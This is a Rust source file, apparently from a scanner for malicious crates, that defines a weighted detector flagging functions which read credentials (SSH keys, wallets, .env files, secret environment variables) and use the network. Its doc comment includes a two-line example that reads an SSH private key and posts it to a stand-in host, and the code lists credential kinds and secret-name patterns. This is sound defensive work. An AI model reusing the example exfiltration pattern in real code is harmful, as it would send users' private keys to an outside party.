//! Credentials that leave the machine.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::source::Unit;
use crate::subject::{Findings, Subject};
use crate::{Confidence, Severity};

detector! {
    /// Credentials are read, and data is sent.
    ///
    /// ## What it does
    /// Looks for functions that, with what they call, name files of credentials, secrets of the
    /// environment or `.env` files, and use the network. Credentials of several kinds, an address of
    /// digits, a collection endpoint or a hidden text make it worse.
    ///
    /// ## Why is this bad?
    /// It is what most malicious crates since 2025 do: SSH keys, registry tokens, wallets and `.env`
    /// files are posted to an address of the attacker.
    /// Clients of a service read the credentials of that service and talk to it, which is why one kind
    /// alone is *low* or *medium*.
    ///
    /// ## Example
    /// ```rust
    /// let key = std::fs::read_to_string(home.join(".ssh/id_ed25519"))?;
    /// ureq::post("https://time.example.invalid/v1").send_string(&key)?;
    /// ```
    ///
    /// ## How to fix it
    /// Let the caller pass credentials in, and send them only to the service that they are for.
    CredentialExfiltration "credential-exfiltration" Malice High High Stable
}

const SOURCES: [Fact; 6] = [
    Fact::KeyInRequest,
    Fact::SecretName,
    Fact::CredentialPath,
    Fact::DotEnv,
    Fact::EnvironmentSecret,
    Fact::EnvironmentDump,
];

const SINKS: [Fact; 4] = [
    Fact::Upload,
    Fact::ExfilEndpoint,
    Fact::RawAddress,
    Fact::Network,
];

impl CredentialExfiltration {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        let levels = [HIGH, LIKELY, MEDIUM, LEAST];
        let mut scopes = subject.facts().graded_scopes(3, &levels, weight);
        scopes.extend(
            subject
                .facts()
                .test_scopes(3, |scope| weight(scope) >= LIKELY),
        );
        for scope in scopes {
            let weight = weight(&scope);
            let (severity, confidence) = match weight {
                HIGH.. => (Severity::High, Confidence::High),
                LIKELY.. => (Severity::High, Confidence::Medium),
                MEDIUM.. => (Severity::Medium, Confidence::Medium),
                _ => (Severity::Low, Confidence::Low),
            };
            let mut kinds: Vec<&str> = scope.details(Fact::CredentialPath).into_iter().collect();
            if scope.has(Fact::DotEnv) {
                kinds.push("`.env` files");
            }
            let variables = scope.details(Fact::EnvironmentSecret);
            kinds.extend(variables);
            if scope.has(Fact::EnvironmentDump) {
                kinds.push("the environment");
            }
            let keys = scope.details(Fact::KeyInRequest);
            kinds.extend(keys);
            if scope.has(Fact::DynamicVariable) {
                kinds.extend(scope.details(Fact::SecretName));
            }
            let message = format!(
                "{} reads {} and uses the network",
                scope.unit.as_str(),
                kinds.join(", ")
            );
            let mut shown = SOURCES.to_vec();
            shown.extend(SINKS);
            shown.push(Fact::HiddenText);
            findings
                .rated(
                    &Self::RULE,
                    severity,
                    confidence,
                    message,
                    scope.places(subject, &shown),
                )
                .reached_as(&scope);
        }
    }
}

const LEAST: u32 = 4;
const MEDIUM: u32 = 5;
const LIKELY: u32 = 7;
const HIGH: u32 = 9;

/// How telling the facts are together; 0 without a source and a sink.
fn weight(scope: &Scope<'_>) -> u32 {
    let network = scope.any(&[Fact::Network, Fact::NetworkCommand, Fact::NameLookup]);
    if !network || !scope.any(&SOURCES) {
        return 0;
    }
    let points = |holds: bool, points: u32| if holds { points } else { 0 };
    // Names in a list, and a loop that reads what they name.
    let listed = scope.has(Fact::DynamicVariable) && scope.has(Fact::SecretName);
    // A look-up is a way out where data becomes part of the name.
    let lookup = scope.has(Fact::NameLookup) && scope.has(Fact::DynamicHost);
    let kinds = scope.details(Fact::CredentialPath);
    // Only what is opened counts for much: names alone may be a list of what
    // not to touch.
    let opened = scope.any(&[Fact::FileRead, Fact::DirectoryWalk, Fact::Home]);
    let strong = kinds.iter().any(|kind| {
        matches!(
            *kind,
            "SSH keys"
                | "wallets"
                | "browser data"
                | "messenger sessions"
                | "password databases"
                | "shell history"
                | "GnuPG keys"
        )
    });
    let key = scope.of(Fact::EnvironmentSecret).any(|evidence| {
        let name = evidence.detail.to_ascii_uppercase();
        ["PRIVATE_KEY", "MNEMONIC", "SEED"]
            .iter()
            .any(|word| name.contains(word))
    });
    let sources = points(!kinds.is_empty(), 1)
        + points(kinds.len() >= 2 && opened, 2)
        + points(kinds.len() >= 3 && opened, 1)
        + points(strong && opened, 3)
        + points(scope.has(Fact::DotEnv) && opened, 4)
        + points(scope.has(Fact::EnvironmentSecret), 1)
        + points(key, 3)
        + points(scope.details(Fact::EnvironmentSecret).len() >= 3, 1)
        + points(listed, 3)
        + points(scope.has(Fact::KeyInRequest) && scope.has(Fact::Address), 4)
        + points(scope.has(Fact::EnvironmentDump), 2)
        + points(
            scope.has(Fact::EnvironmentDump) && scope.has(Fact::Upload),
            1,
        );
    let sinks = 1
        + points(lookup, 4)
        + points(
            !kinds.is_empty()
                && opened
                && scope.any(&[Fact::RawAddress, Fact::ExfilEndpoint, Fact::HiddenText]),
            2,
        )
        + points(scope.has(Fact::Address) && scope.has(Fact::Upload), 1)
        + points(scope.has(Fact::Upload), 2)
        + points(scope.has(Fact::ExfilEndpoint), 2)
        + points(scope.has(Fact::RawAddress), 2)
        + points(scope.has(Fact::HiddenText), 3)
        + points(scope.has(Fact::TlsOff), 1)
        + points(scope.has(Fact::HostIdentity), 1);
    let place = points(scope.unit.is_build(), 3);
    let total = sources + sinks + place;
    match scope.unit {
        // Examples show how to log in, and tests do it.
        Unit::Example | Unit::Test => total.saturating_sub(2),
        _ => total,
    }
}
